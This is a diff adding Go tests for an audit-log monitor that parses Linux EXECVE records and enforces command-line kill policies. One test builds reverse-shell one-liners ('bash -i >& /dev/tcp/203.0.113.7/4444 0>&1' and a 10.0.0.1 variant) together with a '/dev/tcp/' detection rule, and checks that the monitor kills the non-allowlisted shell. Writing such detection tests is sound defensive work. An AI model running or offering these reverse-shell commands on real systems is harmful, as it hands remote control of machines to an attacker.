@@ -0,0 +1,123 @@
+package main
+
+import (
+	"fmt"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/elastic/go-libaudit/v2/auparse"
+)
+
+func parseEvent(t *testing.T, lines ...string) AuditMessageBonk {
+	t.Helper()
+	var msgs []*auparse.AuditMessage
+	for _, line := range lines {
+		msg, err := auparse.ParseLogLine(line)
+		if err != nil {
+			t.Fatal(err)
+		}
+		msgs = append(msgs, msg)
+	}
+	a, err := NewAuditMessageBonk(msgs)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return a
+}
+
+func TestExecveArgv(t *testing.T) {
+	long := strings.Repeat("A", 300)
+	a := parseEvent(t,
+		execRecord(1, 94000100, 1, "/bin/bash", "none"),
+		// argc only comes in the first record, a2 is split and hex encoded because of the space
+		fmt.Sprintf(`type=EXECVE msg=audit(1364481363.243:1): argc=4 a0="bash" a1="-c" a2_len=%d a2[0]=%X`, len(long)+6, "echo "+long[:100]),
+		fmt.Sprintf(`type=EXECVE msg=audit(1364481363.243:1): a2[1]=%X a3=""`, long[100:]+" x"),
+		proctitleRecord(1, "bash -c echo"),
+	)
+
+	want := []string{"bash", "-c", "echo " + long + " x", ""}
+	if !reflect.DeepEqual(a.Argv, want) {
+		t.Errorf("got %q", a.Argv)
+	}
+	if got := a.CommandLine(); got != "bash -c 'echo "+long+" x' ''" {
+		t.Errorf("got %q", got)
+	}
+}
+
+func TestExecveBadArgc(t *testing.T) {
+	parse := func(execve string) (AuditMessageBonk, error) {
+		var msgs []*auparse.AuditMessage
+		for _, line := range []string{execRecord(1, 94000100, 1, "/bin/bash", "none"), execve} {
+			msg, err := auparse.ParseLogLine(line)
+			if err != nil {
+				t.Fatal(err)
+			}
+			msgs = append(msgs, msg)
+		}
+		return NewAuditMessageBonk(msgs)
+	}
+
+	a, err := parse(`type=EXECVE msg=audit(1364481363.243:1): argc=-1 a0="bash"`)
+	if err == nil || !strings.Contains(err.Error(), `bad argc "-1"`) {
+		t.Errorf("got %v", err)
+	}
+	if len(a.Argv) != 0 {
+		t.Errorf("got %q, want no argv from a bad argc", a.Argv)
+	}
+
+	// argc only goes as far as the arguments that are there
+	a, err = parse(`type=EXECVE msg=audit(1364481363.243:1): argc=1000000000 a0="bash"`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := []string{"bash"}; !reflect.DeepEqual(a.Argv, want) {
+		t.Errorf("got %q", a.Argv)
+	}
+}
+
+func TestProctitleArgv(t *testing.T) {
+	a := parseEvent(t,
+		syscallRecord(1, testPid, "4294967295", "tracing"),
+		proctitleRecord(1, "gdb -p 1"),
+	)
+	if want := []string{"gdb", "-p", "1"}; !reflect.DeepEqual(a.Argv, want) {
+		t.Errorf("got %q", a.Argv)
+	}
+}
+
+func TestCmdlinePolicy(t *testing.T) {
+	config := testConfig
+	config.Policies = map[string]Policy{
+		"susp_shell": {Action: ActionKill, Users: []string{}, Cmdline: []string{"/dev/tcp/"}, AllowedCmdline: []string{"10\\.0\\.0\\.1/"}},
+	}
+	killed, out := setupReceive(t, "bonk", config)
+
+	shell := func(seq, pid int, arg string) []string {
+		return []string{
+			execRecord(seq, pid, 1, "/bin/bash", "susp_shell"),
+			fmt.Sprintf(`type=EXECVE msg=audit(1364481363.243:%d): argc=3 a0="bash" a1="-c" a2=%X`, seq, arg),
+		}
+	}
+	var lines []string
+	lines = append(lines, shell(1, 94000200, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")...)
+	lines = append(lines, shell(2, 94000300, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")...)
+	lines = append(lines, shell(3, 94000400, "ls /dev")...)
+	if err := receive(newMemorySource(t, lines...)); err != nil {
+		t.Fatal(err)
+	}
+
+	if len(*killed) != 1 || (*killed)[0] != 94000200 {
+		t.Errorf("killed %v, want only the reverse shell", *killed)
+	}
+	if !strings.Contains(out.String(), "CMD_F: bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';") {
+		t.Errorf("no command line in the log:\n%s", out.String())
+	}
+}
+
+func TestCmdlinePatternMustCompile(t *testing.T) {
+	err := loadTestConfig(t, `{"policies": {"susp_shell": {"cmdline": ["(unclosed"]}}}`)
+	if err == nil || !strings.Contains(err.Error(), `cmdline "(unclosed"`) {
+		t.Errorf("got %v", err)
+	}
+}